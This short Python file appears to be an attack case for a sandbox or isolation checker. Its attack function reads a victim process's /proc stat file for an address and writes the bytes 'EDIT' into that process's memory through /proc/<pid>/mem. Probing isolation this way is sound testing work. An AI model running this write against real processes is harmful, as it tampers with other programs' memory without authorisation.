"""Writes into the memory of another process through its file in /proc."""

# judge: victim

import os


def attack(ground):
    with open(f"/proc/{ground['victim']}/stat") as file:
        start = int(file.read().split()[49])
    os.pwrite(os.open(f"/proc/{ground['victim']}/mem", os.O_WRONLY), b"EDIT", start)
